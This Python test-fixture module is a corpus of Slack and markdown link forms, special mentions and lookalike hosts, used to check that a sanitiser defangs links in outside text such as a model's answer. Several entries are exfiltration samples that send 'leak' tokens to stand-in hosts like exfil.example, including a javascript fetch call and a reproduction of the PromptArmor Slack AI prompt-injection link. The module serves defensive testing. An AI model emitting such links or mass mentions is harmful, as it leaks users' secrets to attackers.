"""The Slack link corpus: every way Slack or markdown makes a link, and Slack's special syntax, as
text from outside (a model's answer, a log line, an alert's annotation) may hold them.

A `Link` points at hosts not in `LINK_DOMAINS`: none of `hosts` may reach Slack as written (only
with its dots broken), nor `leak` (what the URL carries: query string, fragment, userinfo, inline
data) at all; `plain` is what must reach Slack instead, proof that the entry arrived and was made
plain rather than dropped. A `Special` must never reach Slack live. A `Listed` link points at a
listed host and must reach Slack as `clickable`. Each entry names where its form is defined.
Hosts are under exfil.example and exfil.com (the fuzzy forms need a top-level domain Slack knows);
each entry has hosts and a leak of its own, so a failure names the form that got through.
"""

from __future__ import annotations

from dataclasses import dataclass

# ================================================================================ sources

SLACK_DOCS = "docs.slack.dev/messaging/formatting-message-text (Formatting text for app surfaces)"
SLACK_LINKS = f"{SLACK_DOCS}, Linking URLs / Linking to email addresses"
SLACK_MENTIONS = f"{SLACK_DOCS}, Mentioning users / channels / groups, Special mentions"
SLACK_DATES = f"{SLACK_DOCS}, Formatting dates"
COMMONMARK = "CommonMark spec 0.31.2, spec.commonmark.org/0.31.2/"
CM_LINKS = f"{COMMONMARK}, 6.3 Links (inline)"
CM_REFERENCES = f"{COMMONMARK}, 4.7 Link reference definitions and 6.3 (full, collapsed, shortcut references)"
CM_IMAGES = f"{COMMONMARK}, 6.4 Images"
CM_AUTOLINKS = f"{COMMONMARK}, 6.5 Autolinks"
PROMPTARMOR = (
    "PromptArmor, 'Data Exfiltration from Slack AI via indirect prompt injection' (August 2024), "
    "promptarmor.substack.com: the injected answer's markdown link carrying a secret in its query"
)
LINKIFY = "linkify-it test fixtures, github.com/markdown-it/linkify-it test/fixtures/links.txt (as linkify-it-py)"
SLACK_MRKDWN_FORMATTING = f"{SLACK_DOCS}, Basic formatting (a URL inside _italic_ and `code`)"
LOG_LINES = "common log line shapes (key=value, redirects); no published corpus"
HOST_CONFUSION = "RFC 3986 section 3.2 (authority: userinfo@host), and a listed name as a lookalike's prefix"

LINK_DOMAINS = frozenset({"grafana.acme.com", "wiki.acme.com", "prometheus.acme.com"})


@dataclass(frozen=True)
class Link:
    id: str
    raw: str
    hosts: tuple[str, ...]
    leak: str | None
    plain: str
    source: str


@dataclass(frozen=True)
class Special:
    id: str
    raw: str
    source: str


@dataclass(frozen=True)
class Listed:
    id: str
    raw: str
    clickable: str
    source: str


LINKS: tuple[Link, ...] = (
    # ---------------------------------------------------------------- Slack mrkdwn
    Link(
        "slack-labelled",
        "<https://slack-label.exfil.example/a?d=leak01|see the runbook>",
        ("slack-label.exfil.example",),
        "leak01",
        "see the runbook (slack-label[.]exfil[.]example/a)",
        SLACK_LINKS,
    ),
    Link(
        "slack-bare",
        "<https://slack-bare.exfil.example/b?d=leak02>",
        ("slack-bare.exfil.example",),
        "leak02",
        "slack-bare[.]exfil[.]example/b",
        SLACK_LINKS,
    ),
    Link(
        "slack-mailto",
        "<mailto:ops@slack-mail.exfil.example?subject=hi&body=leak03|mail the team>",
        ("slack-mail.exfil.example",),
        "leak03",
        "mail the team (ops@slack-mail[.]exfil[.]example)",
        SLACK_LINKS,
    ),
    Link(
        "slack-javascript",
        "<javascript:fetch('//js.exfil.example/'+leak04)|click>",
        ("js.exfil.example",),
        "leak04",
        "click (javascript: link left out)",
        SLACK_LINKS,
    ),
    # ---------------------------------------------------------------- CommonMark
    Link(
        "md-inline",
        '[the dashboard](https://md-inline.exfil.example/c?d=leak05 "Dashboard")',
        ("md-inline.exfil.example",),
        "leak05",
        "the dashboard (md-inline[.]exfil[.]example/c)",
        CM_LINKS,
    ),
    Link(
        "md-inline-angle",
        "[angle](<https://md-angle.exfil.example/d e?d=leak06>)",
        ("md-angle.exfil.example",),
        "leak06",
        "angle (md-angle[.]exfil[.]example/d e)",
        CM_LINKS,
    ),
    Link(
        "md-inline-parens",
        "[wiki](https://md-parens.exfil.example/wiki/A_(b)?d=leak07)",
        ("md-parens.exfil.example",),
        "leak07",
        "wiki (md-parens[.]exfil[.]example/wiki/A_(b))",
        CM_LINKS,
    ),
    Link(
        "md-image",
        "![status](https://md-image.exfil.example/p.png?d=leak08)",
        ("md-image.exfil.example",),
        "leak08",
        "status (md-image[.]exfil[.]example/p.png)",
        CM_IMAGES,
    ),
    Link(
        "md-image-data",
        "![pixel](data:image/png;base64,bGVhazA5)",
        (),
        "bGVhazA5",
        "pixel (data: link left out)",
        CM_IMAGES,
    ),
    Link(
        "md-reference-full",
        "[the logs][logs]\n\n[logs]: https://md-ref.exfil.example/f?d=leak10",
        ("md-ref.exfil.example",),
        "leak10",
        "logs: md-ref[.]exfil[.]example/f",
        CM_REFERENCES,
    ),
    Link(
        "md-reference-collapsed",
        "[docs][]\n\n[docs]: <https://md-collapsed.exfil.example/g?d=leak11> 'Docs'",
        ("md-collapsed.exfil.example",),
        "leak11",
        "docs: md-collapsed[.]exfil[.]example/g",
        CM_REFERENCES,
    ),
    Link(
        "md-reference-shortcut",
        "[faq]\n\n[faq]:\n  https://md-shortcut.exfil.example/h?d=leak12",
        ("md-shortcut.exfil.example",),
        "leak12",
        "faq: md-shortcut[.]exfil[.]example/h",
        CM_REFERENCES,
    ),
    Link(
        "md-autolink",
        "<HTTPS://MD-AUTO.EXFIL.EXAMPLE/I?D=LEAK13>",
        ("md-auto.exfil.example",),
        "LEAK13",
        "MD-AUTO[.]EXFIL[.]EXAMPLE/I",
        CM_AUTOLINKS,
    ),
    Link(
        "md-autolink-email",
        "<oncall@md-automail.exfil.example>",
        ("md-automail.exfil.example",),
        None,
        "oncall@md-automail[.]exfil[.]example",
        CM_AUTOLINKS,
    ),
    Link(
        "md-autolink-scheme",
        "<irc://md-irc.exfil.example/leak14>",
        ("md-irc.exfil.example",),
        "leak14",
        "irc: link left out",
        CM_AUTOLINKS,
    ),
    Link(
        "md-javascript",
        "[run me](javascript:alert('leak15'))",
        (),
        "leak15",
        "run me (javascript: link left out)",
        CM_LINKS,
    ),
    # ---------------------------------------------------------------- the 2024 exfiltration, by its shape
    Link(
        "promptarmor",
        "Error loading message, [click here to reauthenticate](https://promptarmor.exfil.example?q=leak16)",
        ("promptarmor.exfil.example",),
        "leak16",
        "click here to reauthenticate (promptarmor[.]exfil[.]example)",
        f"{PROMPTARMOR} (its parameter renamed: redaction takes `secret=` values first)",
    ),
    # ---------------------------------------------------------------- what Slack links by itself
    Link(
        "bare-https",
        "My https://bare.exfil.com/j?d=leak17 site",
        ("bare.exfil.com",),
        "leak17",
        "bare[.]exfil[.]com/j",
        LINKIFY,
    ),
    Link(
        "bare-www",
        "www.bare-www.exfil.com/k?d=leak18",
        ("bare-www.exfil.com",),
        "leak18",
        "www[.]bare-www[.]exfil[.]com/k",
        LINKIFY,
    ),
    Link("bare-domain", "fuzzy.exfil.com/l?d=leak19", ("fuzzy.exfil.com",), "leak19", "fuzzy[.]exfil[.]com/l", LINKIFY),
    Link(
        "bare-email",
        "write to oncall@fuzzy-mail.exfil.com",
        ("fuzzy-mail.exfil.com",),
        None,
        "oncall@fuzzy-mail[.]exfil[.]com",
        LINKIFY,
    ),
    Link(
        "bare-protocol-relative",
        "//protorel.exfil.com/m?d=leak20",
        ("protorel.exfil.com",),
        "leak20",
        "protorel[.]exfil[.]com/m",
        LINKIFY,
    ),
    Link(
        "bare-userinfo-port",
        "http://user:leak21@userinfo.exfil.example:8080/n",
        ("userinfo.exfil.example",),
        "leak21",
        "userinfo[.]exfil[.]example:8080/n",
        LINKIFY,
    ),
    Link(
        "bare-fragment",
        "https://fragment.exfil.example/o#d=leak22",
        ("fragment.exfil.example",),
        "leak22",
        "fragment[.]exfil[.]example/o",
        LINKIFY,
    ),
    Link(
        "bare-in-parens",
        "(Scoped https://paren.exfil.example/p?d=leak23).",
        ("paren.exfil.example",),
        "leak23",
        "(Scoped paren[.]exfil[.]example/p).",
        LINKIFY,
    ),
    Link(
        "bare-ftp",
        "ftp://ftp.exfil.example/q?d=leak24",
        ("ftp.exfil.example",),
        "leak24",
        "ftp[.]exfil[.]example/q",
        LINKIFY,
    ),
    Link(
        "bare-idn",
        "http://✪df.ws/123?d=leak25",
        ("✪df.ws",),
        "leak25",
        "✪df[.]ws/123",
        f"{LINKIFY}, International",
    ),
    Link(
        "bare-data",
        "data:text/html;base64,bGVhazI2PHNjcmlwdD4=",
        (),
        "bGVhazI2",
        "data: link left out",
        CM_AUTOLINKS,
    ),
    Link(
        "mrkdwn-italic",
        "_https://italic.exfil.example/r?d=leak27_",
        ("italic.exfil.example",),
        "leak27",
        "_italic[.]exfil[.]example/r_",
        SLACK_MRKDWN_FORMATTING,
    ),
    Link(
        "mrkdwn-code",
        "`https://code.exfil.example/s?d=leak28`",
        ("code.exfil.example",),
        "leak28",
        "`code[.]exfil[.]example/s`",
        SLACK_MRKDWN_FORMATTING,
    ),
    Link(
        "log-key-value",
        "callback=https://glued.exfil.example/t?d=leak29 status=502",
        ("glued.exfil.example",),
        "leak29",
        "callback=glued[.]exfil[.]example/t status=502",
        LOG_LINES,
    ),
    Link(
        "log-redirect",
        "302 to https://redir.exfil.example/to/https://hop.exfil.com/u?d=leak30",
        ("redir.exfil.example", "hop.exfil.com"),
        "leak30",
        "redir[.]exfil[.]example/to/https[:]//hop[.]exfil[.]com/u",
        LOG_LINES,
    ),
    Link(
        "listed-lookalike",
        "https://grafana.acme.com.lookalike.exfil.com/v?d=leak31",
        ("grafana.acme.com.lookalike.exfil.com",),
        "leak31",
        "grafana[.]acme[.]com[.]lookalike[.]exfil[.]com/v",
        HOST_CONFUSION,
    ),
    Link(
        "listed-userinfo-trick",
        "https://grafana.acme.com@trick.exfil.com/w?d=leak32",
        ("trick.exfil.com",),
        "leak32",
        "trick[.]exfil[.]com/w",
        HOST_CONFUSION,
    ),
)

SPECIALS: tuple[Special, ...] = (
    Special("here", "<!here>", SLACK_MENTIONS),
    Special("here-labelled", "<!here|here>", SLACK_MENTIONS),
    Special("channel", "<!channel>", SLACK_MENTIONS),
    Special("everyone", "<!everyone>", SLACK_MENTIONS),
    Special("subteam", "<!subteam^SEVIL01>", SLACK_MENTIONS),
    Special("subteam-labelled", "<!subteam^SEVIL02|@oncall>", SLACK_MENTIONS),
    Special("user", "<@UEVIL01>", SLACK_MENTIONS),
    Special("user-labelled", "<@UEVIL02|the boss>", SLACK_MENTIONS),
    Special("channel-link", "<#CEVIL01>", SLACK_MENTIONS),
    Special("channel-link-labelled", "<#CEVIL02|general>", SLACK_MENTIONS),
    Special("date", "<!date^1392734382^{date_short}|Feb 18>", SLACK_DATES),
)

LISTED: tuple[Listed, ...] = (
    Listed(
        "listed-markdown",
        "[the checkout dashboard](https://grafana.acme.com/d/checkout?var-env=prod)",
        "[the checkout dashboard](https://grafana.acme.com/d/checkout?var-env=prod)",
        CM_LINKS,
    ),
    Listed(
        "listed-slack",
        "<https://wiki.acme.com/runbooks/checkout|the runbook>",
        "<https://wiki.acme.com/runbooks/checkout|the runbook>",
        SLACK_LINKS,
    ),
    Listed(
        "listed-subdomain",
        "https://eu.grafana.acme.com/d/payments?orgId=1",
        "https://eu.grafana.acme.com/d/payments?orgId=1",
        LINKIFY,
    ),
)


def text(*, links: bool = True, specials: bool = True, listed: bool = True) -> str:
    """The corpus as one outside text: an entry a line, a blank line apart (references need one)."""
    parts = [*(e.raw for e in LINKS if links), *(e.raw for e in SPECIALS if specials)]
    parts += [e.raw for e in LISTED if listed]
    return "\n\n".join(parts)
